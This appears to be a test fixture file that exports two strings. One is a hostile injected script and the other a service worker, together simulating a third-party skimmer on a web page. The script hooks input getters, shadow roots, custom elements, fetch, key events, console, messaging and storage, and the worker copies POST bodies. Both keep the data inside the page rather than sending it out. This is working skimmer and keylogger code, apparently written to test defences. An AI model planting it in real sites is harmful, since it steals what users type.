/**
 * A script that a stranger has brought into a page, for instance by a tag manager. It runs before everything else and
 * collects what it can reach, by channel. Text, since it runs in the page as it is.
 */
export const hostileScript = `{
  const stolen = (window.__stolen = {});
  const keep = (channel, value) => (stolen[channel] ??= []).push(String(value));
  const roots = new Set([document]);

  const attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.add(root);
    new MutationObserver(() => readInputs('mutation')).observe(root, { childList: true, subtree: true, attributes: true });
    return root;
  };
  const valueOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  const readInputs = (channel) => {
    for (const root of roots) {
      for (const input of root.querySelectorAll('input')) keep(channel, valueOf.get.call(input));
    }
  };
  setInterval(() => readInputs('shadow'), 50);
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...valueOf,
    get() {
      const value = valueOf.get.call(this);
      keep('getter', value);
      return value;
    },
  });

  const define = CustomElementRegistry.prototype.define;
  CustomElementRegistry.prototype.define = function (name, constructor, options) {
    const { connectedCallback } = constructor.prototype;
    constructor.prototype.connectedCallback = function () {
      connectedCallback?.call(this);
      setInterval(() => this.renderRoot?.querySelectorAll('input').forEach((input) => keep('define', valueOf.get.call(input))), 50);
    };
    define.call(this, name, constructor, options);
  };
  const { fetch } = window;
  window.fetch = function (input, init) {
    keep('fetch', init?.body);
    return fetch.call(this, input, init);
  };
  for (const [channel, types] of Object.entries({ keys: ['keydown', 'keypress'], input: ['input', 'beforeinput', 'change'], focus: ['focusin', 'focusout'] })) {
    for (const type of types) {
      window.addEventListener(type, (event) => {
        // Keys are put together to what was typed.
        if (channel === 'keys' && type === 'keydown') stolen.keys = [(stolen.keys?.[0] ?? '') + event.key.replace('Shift', '')];
        else keep(channel, valueOf.get.call(event.composedPath().find((each) => each instanceof HTMLInputElement) ?? document.createElement('input')));
      }, true);
    }
  }
  window.addEventListener('beforeprint', () => readInputs('print'));
  window.addEventListener('pagehide', () => { readInputs('leaving'); sessionStorage.setItem('__stolen', JSON.stringify(stolen)); }, true);
  window.addEventListener('dragstart', (event) => keep('drag', event.dataTransfer?.getData('text/plain')), true);

  for (const name of ['log', 'info', 'warn', 'error', 'debug']) {
    const original = console[name];
    console[name] = (...values) => { keep('console', values.join()); original.apply(console, values); };
  }
  const text = (value) => { try { return JSON.stringify(value); } catch { return String(value); } };
  window.addEventListener('message', ({ data }) => keep('messages', text(data)), true);
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(listener) {
      onmessage.set.call(this, (event) => { keep('messages', text(event.data)); return listener.call(this, event); });
    },
  });
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    keep('messages', text(message));
    return post.call(this, message, ...rest);
  };
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function (name, value) {
    if (name !== '__stolen') keep('storage', value);
    return setItem.call(this, name, value);
  };
  navigator.serviceWorker.addEventListener('message', ({ data }) => keep('worker', data));
  navigator.serviceWorker.register('/worker.js');
}`;

/** A service worker of the stranger's, which reads the requests of the page. */
export const hostileWorker = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.method !== 'POST') return;
    const copy = event.request.clone();
    event.waitUntil(copy.text().then(async (text) => {
      for (const client of await clients.matchAll()) client.postMessage(text);
    }));
  });
`;
